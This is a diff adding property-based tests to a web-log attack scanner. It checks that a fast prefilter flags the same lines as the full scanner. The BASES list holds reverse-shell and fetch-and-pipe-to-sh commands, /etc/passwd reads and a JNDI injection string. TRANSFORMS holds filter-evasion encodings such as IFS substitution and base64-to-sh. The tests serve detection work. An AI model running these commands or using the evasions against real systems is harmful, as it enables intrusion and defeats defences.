@@ -3,7 +3,13 @@ accounting of the full path, on the sample logs, the corpus and generated evasio
 
 from __future__ import annotations
 
-from conftest import REAL_APACHE_LINES, SAMPLE_LOGS, combined_line, corpus_cases
+import base64
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from conftest import CORPUS, REAL_APACHE_LINES, SAMPLE_LOGS, combined_line, corpus_cases
 from dropscan.logformat import compile_format
 from dropscan.sources import Source, is_log_like, open_blocks
 
@@ -46,3 +52,81 @@ def test_corpus(fast_scanner, full_scanner):
 def test_real_lines_and_junk(fast_scanner, full_scanner):
     chunk = b"\n".join([*REAL_APACHE_LINES, b"junk", b"\xff\xfe", b""]) + b"\n"
     _compare(fast_scanner, full_scanner, chunk)
+
+
+# --- generated evasions: the prefilter must pass every line the full path finds something in ---
+BASES = [
+    "wget http://198.51.100.1/x.sh",
+    "curl -s 198.51.100.1:8080/x|sh",
+    "nc -e /bin/sh 198.51.100.1 4444",
+    "bash -i >& /dev/tcp/198.51.100.1/443 0>&1",
+    "cat /etc/passwd",
+    "id",
+    "whoami",
+    "uname -a",
+    "ping -c 3 198.51.100.1",
+    "${jndi:ldap://198.51.100.1/a}",
+    "system('id')",
+    "__import__('os').system('id')",
+    "for %a in (x) do calc",
+]
+SEPARATORS = [";", "|", "||", "&&", "& ", "\n", "`", "$(", "; ", "| "]
+
+
+def _quote_inside(word: str, q: str) -> str:
+    return q.join(word) if len(word) > 1 else word
+
+
+TRANSFORMS = {
+    "pct": lambda s: "".join(f"%{b:02x}" for b in s.encode()),
+    "pct_upper": lambda s: "".join(f"%{b:02X}" for b in s.encode()),
+    "pct_u": lambda s: "".join(f"%u{ord(c):04x}" for c in s),
+    "entity": lambda s: "".join(f"&#{ord(c)};" for c in s),
+    "json_u": lambda s: "".join(f"\\u{ord(c):04x}" for c in s),
+    "squote": lambda s: " ".join(_quote_inside(w, "'") for w in s.split(" ")),
+    "dquote": lambda s: " ".join(_quote_inside(w, '"') for w in s.split(" ")),
+    "backslash": lambda s: " ".join(_quote_inside(w, "\\") for w in s.split(" ")),
+    "ifs": lambda s: s.replace(" ", "${IFS}"),
+    "ifs9": lambda s: s.replace(" ", "$IFS$9"),
+    "plus": lambda s: s.replace(" ", "+"),
+    "tab": lambda s: s.replace(" ", "\t"),
+    "brace": lambda s: "{" + s.replace(" ", ",") + "}",
+    "upper": str.upper,
+    "b64": lambda s: "echo " + base64.b64encode(s.encode()).decode() + " | base64 -d | sh",
+    "ansi": lambda s: "$'" + "".join(f"\\x{ord(c):02x}" for c in s) + "'",
+    "empty_expansion": lambda s: s.replace("a", "a$@").replace("i", "i``"),
+}
+
+
+@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    base=st.sampled_from(BASES),
+    sep=st.sampled_from(SEPARATORS),
+    chain=st.lists(st.sampled_from(sorted(TRANSFORMS)), max_size=3),
+    where=st.sampled_from(["target", "path", "ua", "referer"]),
+)
+def test_generated_evasions_pass_the_prefilter(fast_scanner, full_scanner, base, sep, chain, where):
+    text = sep + base
+    for name in chain:
+        text = TRANSFORMS[name](text)
+    if where == "target":
+        line = combined_line("/x.php?c=" + text.replace(" ", "%20"))
+    elif where == "path":
+        line = combined_line("/cgi-bin/" + text.replace(" ", "%20"))
+    elif where == "ua":
+        line = combined_line("/", ua=text)
+    else:
+        line = combined_line("/", referer=text)
+    full, _ = full_scanner.scan_line(line.rstrip(b"\n"), COMBINED)
+    if full is not None:
+        assert fast_scanner.prefilter(COMBINED).candidates(line), (text, full.rule_ids)
+    _compare(fast_scanner, full_scanner, line)
+
+
+def test_prefilter_passes_few_benign_lines(fast_scanner):
+    """Keywords must stay specific: on real benign traffic the fast path parses few lines."""
+    log = CORPUS / "elastic-apache-logs" / "apache_logs"
+    if not log.is_file():
+        pytest.skip("elastic-apache-logs not in the corpus")
+    data = log.read_bytes()
+    assert len(fast_scanner.prefilter(COMBINED).candidates(data)) / data.count(b"\n") < 0.01
